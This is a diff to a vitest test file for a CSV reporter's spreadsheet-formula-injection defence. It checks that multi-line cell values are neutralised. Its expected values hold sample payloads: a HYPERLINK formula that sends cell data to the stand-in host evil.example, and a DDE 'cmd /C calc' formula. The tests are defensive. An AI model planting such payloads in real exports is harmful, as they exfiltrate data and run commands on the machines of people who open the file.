@@ -3,6 +3,8 @@ import { describe, expect, it } from 'vitest';
 
 import type { AuditReport } from '../../src/report.js';
 import { csvReporter, neutraliseFormula } from '../../src/reporters/csv.js';
+import { executableCellLines } from '../helpers/spreadsheet.js';
+import { HOSTILE_NAME, hostileReport } from '../fixtures/reporters/hostile.js';
 import { fixtureContext, fixtureReport } from '../fixtures/reporters/report.js';
 import { expectGolden } from './golden.js';
 
@@ -76,12 +78,57 @@ describe('csv reporter', () => {
     ['@SUM(A1)', "'@SUM(A1)"],
     ['\tcmd', "'\tcmd"],
     ['\rcmd', "'\rcmd"],
+    ['ok\n=1+2', "ok\n'=1+2"],
+    ['ok\r\n@A1\r-1\n\n+2', "ok\r\n'@A1\r'-1\n\n'+2"],
+    ['ok\n\r=1', "ok\n'\r'=1"],
+    ['ok\n a=1', 'ok\n a=1'],
+    ['\uFF1D1+2', "'\uFF1D1+2"],
     ['plain', 'plain'],
     ['', ''],
     [-3, -3],
     [undefined, undefined],
   ])('neutraliseFormula(%j) is %j', (cell, expected) => {
     expect(neutraliseFormula(cell)).toBe(expected);
+  });
+
+  describe('a multi-line name whose later lines are formulas', () => {
+    const hostile = csvReporter(hostileReport, fixtureContext);
+
+    it('stays one quoted cell, read back by a CSV parser as a spreadsheet would', () => {
+      const rows: string[][] = parse(hostile, { record_delimiter: '\r\n' });
+      expect(rows).toHaveLength(1 + (hostileReport.scores?.touchpoints.length ?? 0));
+      expect(rows.every((row) => row.length === 16)).toBe(true);
+      expect(rows[1]?.[1]).toBe(
+        "Renewal\n'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")\r\n'+cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n'\tx",
+      );
+      expect(hostile).toContain(`"Renewal\n'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")`);
+    });
+
+    it('has no line of any cell that a spreadsheet would run', () => {
+      expect(executableCellLines(hostile)).toEqual([]);
+      // the check itself finds what the reporter would have let through before
+      expect(executableCellLines('id,name\r\nx,"ok\n=1+2"\r\ny,-12\r\n')).toEqual(['=1+2']);
+    });
+
+    it('quotes a cell holding a bare LF or CR although records end with CRLF', () => {
+      const report: AuditReport = {
+        ...fixtureReport,
+        scores: fixtureReport.scores && {
+          ...fixtureReport.scores,
+          touchpoints: fixtureReport.scores.touchpoints
+            .slice(0, 2)
+            .map((t, i) => ({ ...t, name: i === 0 ? 'a\nb' : 'c\rd' })),
+        },
+      };
+      const lines = csvReporter(report, fixtureContext).split('\r\n');
+      expect(lines[1]).toMatch(/^welcome-email,"a\nb",onboarding,/);
+      expect(lines[2]).toMatch(/^kickoff-call,"c\rd",onboarding,/);
+    });
+
+    it('neutralises the name as a whole too (HOSTILE_NAME starts with text)', () => {
+      expect(HOSTILE_NAME.startsWith('Renewal')).toBe(true);
+      expect(neutraliseFormula(`=${HOSTILE_NAME}`)).toMatch(/^'=Renewal\n'=/);
+    });
   });
 
   it('writes one row per group with --by', () => {
